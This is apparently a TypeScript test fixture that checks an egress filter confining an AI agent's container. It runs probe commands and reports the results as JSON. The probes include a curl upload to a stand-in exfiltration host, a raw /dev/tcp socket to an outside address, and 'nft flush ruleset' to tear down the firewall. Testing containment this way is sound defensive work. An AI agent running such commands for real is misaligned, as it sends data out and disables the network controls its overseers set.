/**
 * The Action's egress filter as a job container gets it, run inside a namespace that stands in for the
 * container's (egress-container.test.ts starts it through unshare): the runner applies the rules with
 * the Action's code, then runs commands as the agent would, and prints what happened as JSON.
 */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { runBounded } from "../../src/attempt/bounded.ts";
import { startEgress } from "../../src/attempt/egress/egress.ts";
import { EGRESS_TABLE, nft } from "../../src/attempt/egress/rules.ts";

const registry = createServer((_req, res) => res.end("registry: left-pad 1.3.0\n"));
await new Promise<void>((resolve) => registry.listen(0, "127.0.0.1", resolve));
const registryPort = (registry.address() as AddressInfo).port;
const log: string[] = [];
const egress = await startEgress({
  mode: "container",
  allow: [`127.0.0.1:${registryPort}`],
  modelUrl: "http://127.0.0.1:9",
  entry: "",
  log: (line) => log.push(line),
});
const rules = (await nft(["list", "table", "inet", EGRESS_TABLE])).output;
const agent = async (command: string) =>
  (
    await runBounded("bash", ["-c", command], {
      cwd: "/",
      env: { ...process.env, ...egress.env },
      timeoutMs: 20_000,
      prefix: egress.prefix,
    })
  ).output;
const runner = (
  await runBounded("bash", ["-c", `curl -sS -m 5 http://127.0.0.1:${registryPort}/`], {
    cwd: "/",
    env: process.env,
    timeoutMs: 20_000,
  })
).output;
const outputs = {
  curl: await agent("curl -sS -m 10 https://exfil.example/upload; echo curl-exit=$?"),
  lookup: await agent("getent hosts exfil.example; echo lookup-exit=$?"),
  socket: await agent("timeout 10 bash -c 'exec 3<>/dev/tcp/203.0.113.9/443'; echo socket-exit=$?"),
  registry: await agent(`curl -sS -m 10 http://127.0.0.1:${registryPort}/left-pad; echo registry-exit=$?`),
  direct: await agent(`curl -sS -m 10 --noproxy '*' http://127.0.0.1:${registryPort}/; echo direct-exit=$?`),
  flush: await agent("nft flush ruleset; echo flush-exit=$?; id -g"),
  runner,
};
const refusals = await egress.refusals();
await egress.close();
const after = (await nft(["list", "tables"])).output;
registry.close();
process.stdout.write(
  JSON.stringify({
    enforced: egress.enforced,
    note: egress.note,
    prefix: egress.prefix,
    rules,
    outputs,
    refusals,
    log,
    after,
  }),
);
